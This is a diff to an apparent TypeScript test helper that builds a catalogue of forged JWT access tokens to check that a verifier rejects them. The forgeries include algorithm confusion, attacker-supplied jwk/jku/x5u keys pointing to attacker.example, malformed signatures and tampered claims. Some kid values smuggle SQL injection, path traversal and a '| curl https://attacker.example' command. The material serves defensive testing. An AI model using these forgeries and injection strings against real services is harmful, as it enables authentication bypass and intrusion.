@@ -47,6 +47,15 @@ export function buildForgeries(token: string, jwk: Record<string, unknown>, refr
     const input = `${typeof header === 'string' ? header : json(header)}.${payload}`;
     return `${input}.${b64(sign('sha256', Buffer.from(input), { key, dsaEncoding: 'ieee-p1363' }))}`;
   };
+  // Signed by an attacker key of the service's own algorithm, so that what is refused is the
+  // header member or the key, not merely a wrong `alg`.
+  const configuredAlg = rsa ? 'RS256' : 'ES256';
+  const attackerSignature = (input: string): string =>
+    b64(rsa ? sign('sha256', Buffer.from(input), attackerRsa.privateKey) : sign('sha256', Buffer.from(input), { key: attacker.privateKey, dsaEncoding: 'ieee-p1363' }));
+  const forge = (header: Record<string, unknown>, payload = admin): string => {
+    const input = `${json({ alg: configuredAlg, ...header })}.${payload}`;
+    return `${input}.${attackerSignature(input)}`;
+  };
   const hs256 = (header: unknown, key: string | Buffer, payload = admin): string => {
     const input = `${json(header)}.${payload}`;
     return `${input}.${createHmac('sha256', key).update(input).digest('base64url')}`;
@@ -73,41 +82,40 @@ export function buildForgeries(token: string, jwk: Record<string, unknown>, refr
     add(`A4 HS256 keyed with our public key (${name})`, hs256({ alg: 'HS256', typ: 'at+jwt', kid }, key));
   }
   add('A5 HS256 with an empty secret', hs256({ alg: 'HS256', typ: 'at+jwt' }, ''));
-  const configuredAlg = rsa ? 'RS256' : 'ES256';
   for (const alg of ['ES256', 'ES384', 'ES512', 'RS256', 'PS256', 'EdDSA', 'es256', 'ES256 ', 'ES256\u0000', 'rs256'].filter((a) => a !== configuredAlg)) {
     add(`A6 alg ${JSON.stringify(alg)} with our kid`, es256({ alg, typ: 'at+jwt', kid }));
     add(`A6 alg ${JSON.stringify(alg)} on the genuine token`, `${json({ alg, typ: 'at+jwt', kid })}.${p}.${s}`);
   }
   // B. attacker-chosen key material
-  add('B1 embedded jwk', es256({ alg: 'ES256', typ: 'at+jwt', jwk: attackerJwk }));
-  add('B1 embedded jwk with our kid', es256({ alg: 'ES256', typ: 'at+jwt', kid, jwk: attackerJwk }));
-  add('B2 jku', es256({ alg: 'ES256', typ: 'at+jwt', kid, jku: 'https://attacker.example/jwks.json' }));
-  add('B3 x5u', es256({ alg: 'ES256', typ: 'at+jwt', kid, x5u: 'https://attacker.example/cert.pem' }));
-  add('B3 x5c', es256({ alg: 'ES256', typ: 'at+jwt', kid, x5c: [der.toString('base64')] }));
-  add('B3 x5t#S256', es256({ alg: 'ES256', typ: 'at+jwt', kid, 'x5t#S256': b64('thumb') }));
+  add('B1 embedded jwk', forge({ typ: 'at+jwt', jwk: attackerJwk }));
+  add('B1 embedded jwk with our kid', forge({ typ: 'at+jwt', kid, jwk: attackerJwk }));
+  add('B2 jku', forge({ typ: 'at+jwt', kid, jku: 'https://attacker.example/jwks.json' }));
+  add('B3 x5u', forge({ typ: 'at+jwt', kid, x5u: 'https://attacker.example/cert.pem' }));
+  add('B3 x5c', forge({ typ: 'at+jwt', kid, x5c: [der.toString('base64')] }));
+  add('B3 x5t#S256', forge({ typ: 'at+jwt', kid, 'x5t#S256': b64('thumb') }));
   const rsaInput = `${json({ alg: 'RS256', typ: 'at+jwt', kid })}.${admin}`;
   add('B RS256 signed by an attacker key with our kid', `${rsaInput}.${b64(sign('sha256', Buffer.from(rsaInput), attackerRsa.privateKey))}`);
   for (const badKid of ['../../../../../../dev/null', '/dev/null', '/invalid_path', '', "x' UNION SELECT '1';--", '|sleep 10', '| curl https://attacker.example', '__proto__', 'constructor', 'toString', 'hasOwnProperty']) {
     add(`B4/B5/B6 kid ${JSON.stringify(badKid)} HS256`, hs256({ alg: 'HS256', typ: 'at+jwt', kid: badKid }, ''));
-    add(`B4/B5/B6 kid ${JSON.stringify(badKid)} ES256`, es256({ alg: 'ES256', typ: 'at+jwt', kid: badKid }));
+    add(`B4/B5/B6 kid ${JSON.stringify(badKid)} ES256`, forge({ typ: 'at+jwt', kid: badKid }));
   }
   for (const badKid of [123, {}, [], null, 'k'.repeat(65_536)]) {
-    add(`B6 kid ${JSON.stringify(badKid).slice(0, 20)}`, es256({ alg: 'ES256', typ: 'at+jwt', kid: badKid }));
+    add(`B6 kid ${JSON.stringify(badKid).slice(0, 20)}`, forge({ typ: 'at+jwt', kid: badKid }));
   }
-  add('B6 no kid', es256({ alg: 'ES256', typ: 'at+jwt' }));
+  add('B6 no kid', forge({ typ: 'at+jwt' }));
   // C. header semantics and token type
   for (const crit of [['x-unk'], [], ['alg'], ['exp'], 'b64']) {
-    add(`C1 crit ${JSON.stringify(crit)}`, es256({ alg: 'ES256', typ: 'at+jwt', kid, crit, 'x-unk': 1 }));
-    add(`C1 crit ${JSON.stringify(crit)} on the genuine token`, `${json({ alg: 'ES256', typ: 'at+jwt', kid, crit })}.${p}.${s}`);
+    add(`C1 crit ${JSON.stringify(crit)}`, forge({ typ: 'at+jwt', kid, crit, 'x-unk': 1 }));
+    add(`C1 crit ${JSON.stringify(crit)} on the genuine token`, `${json({ alg: configuredAlg, typ: 'at+jwt', kid, crit })}.${p}.${s}`);
   }
   const raw = JSON.stringify({ ...claims, sub: 'admin' });
-  const b64false = json({ alg: 'ES256', typ: 'at+jwt', kid, b64: false, crit: ['b64'] });
-  add('C2 b64:false, raw payload', `${b64false}.${raw}.${b64(sign('sha256', Buffer.from(`${b64false}.${raw}`), { key: attacker.privateKey, dsaEncoding: 'ieee-p1363' }))}`);
+  const b64false = json({ alg: configuredAlg, typ: 'at+jwt', kid, b64: false, crit: ['b64'] });
+  add('C2 b64:false, raw payload', `${b64false}.${raw}.${attackerSignature(`${b64false}.${raw}`)}`);
   add('C2 b64:false, detached payload', `${b64false}..${s}`);
   add('C4 the refresh token as an access token', refreshToken);
-  add('C4 typ JWT', `${json({ alg: 'ES256', typ: 'JWT', kid })}.${p}.${s}`);
-  add('C4 no typ', `${json({ alg: 'ES256', kid })}.${p}.${s}`);
-  add('C5 nested JWT', es256({ alg: 'ES256', typ: 'at+jwt', kid, cty: 'JWT' }, b64(`${json({ alg: 'none' })}.${admin}.`)));
+  add('C4 typ JWT', `${json({ alg: configuredAlg, typ: 'JWT', kid })}.${p}.${s}`);
+  add('C4 no typ', `${json({ alg: configuredAlg, kid })}.${p}.${s}`);
+  add('C5 nested JWT', forge({ typ: 'at+jwt', kid, cty: 'JWT' }, b64(`${json({ alg: 'none' })}.${admin}.`)));
   add('C6 five segments (JWE shape)', `${h}.${p}.${s}.${p}.${s}`);
   add('C6 flattened JSON serialization', JSON.stringify({ protected: h, payload: p, signature: s }));
   add('C6 a fourth segment', `${token}.${p}`);
@@ -132,7 +140,7 @@ export function buildForgeries(token: string, jwk: Record<string, unknown>, refr
   add('D2 signature: non-zero trailing bits', `${h}.${p}.${s.slice(0, -1)}${String.fromCharCode(last === 0x41 ? 0x42 : last + 1)}`);
   add('D4 "." x 1,000,000', '.'.repeat(1_000_000));
   add('D4 "a." x 500,000', 'a.'.repeat(500_000));
-  add('D4 a 1 MiB kid', es256({ alg: 'ES256', typ: 'at+jwt', kid: 'k'.repeat(1 << 20) }));
+  add('D4 a 1 MiB kid', forge({ typ: 'at+jwt', kid: 'k'.repeat(1 << 20) }));
   add('D4 100k nested arrays', `${h}.${b64('['.repeat(100_000))}.${s}`);
   add('D4 a 21,830-character signature', `${h}.${p}.${'A'.repeat(21_830)}`);
   if (rsa) {
@@ -141,7 +149,7 @@ export function buildForgeries(token: string, jwk: Record<string, unknown>, refr
     add('F1 short signature (first byte dropped)', withSignature(signature.subarray(1)));
     add('F2 long signature (00 prepended)', withSignature(Buffer.concat([Buffer.alloc(1), signature])));
     add('F2 long signature (00 appended)', withSignature(Buffer.concat([signature, Buffer.alloc(1)])));
-    add('F3 s + n', withSignature(be(int(signature) + n, 257)));
+    add('F3 s + n (257 bytes)', withSignature(be(int(signature) + n, 257)));
     add('F3 s = n', withSignature(be(n, 256)));
     for (const [name, value] of [['0', 0n], ['1', 1n], ['n-1', n - 1n]] as const) add(`F4 s = ${name}`, withSignature(be(value, 256)));
     add('F zero-length signature', withSignature(Buffer.alloc(0)));
@@ -153,9 +161,9 @@ export function buildForgeries(token: string, jwk: Record<string, unknown>, refr
     const values = [0n, 1n, N - 1n, N];
     const label = (v: bigint): string => (v === N ? 'n' : v === N - 1n ? 'n-1' : String(v));
     for (const rv of values) for (const svv of values) add(`E2 r=${label(rv)} s=${label(svv)}`, withSignature(Buffer.concat([be(rv, 32), be(svv, 32)])));
-    add('E3 r + n', withSignature(Buffer.concat([be(r + N, 33), signature.subarray(32)])));
-    add('E3 s + n', withSignature(Buffer.concat([signature.subarray(0, 32), be(sv + N, 33)])));
-    add('E3 r + 2^256', withSignature(Buffer.concat([be(r + (1n << 256n), 33), signature.subarray(32)])));
+    add('E3 r + n (33-byte r)', withSignature(Buffer.concat([be(r + N, 33), signature.subarray(32)])));
+    add('E3 s + n (33-byte s)', withSignature(Buffer.concat([signature.subarray(0, 32), be(sv + N, 33)])));
+    add('E3 r + 2^256 (33-byte r)', withSignature(Buffer.concat([be(r + (1n << 256n), 33), signature.subarray(32)])));
     for (const length of [0, 63, 65, 128]) add(`E4 ${length}-byte signature`, withSignature(Buffer.concat([signature, signature]).subarray(0, length)));
     add('E4 trailing zero', withSignature(Buffer.concat([signature, Buffer.alloc(1)])));
     add('E4 leading 00 on r', withSignature(Buffer.concat([Buffer.alloc(1), signature])));
@@ -164,7 +172,7 @@ export function buildForgeries(token: string, jwk: Record<string, unknown>, refr
   // G. claims: the genuine signature over a different payload
   add('G1 tampered payload (sub=admin), genuine signature', `${h}.${admin}.${s}`);
   add('G1 tampered payload, exp far in the future', `${h}.${json({ ...claims, exp: 9_999_999_999 })}.${s}`);
-  add('G claims signed by an attacker key with our kid', es256({ alg: 'ES256', typ: 'at+jwt', kid }, p));
+  add('G claims signed by an attacker key with our kid', forge({ typ: 'at+jwt', kid }, p));
   return list;
 }
 
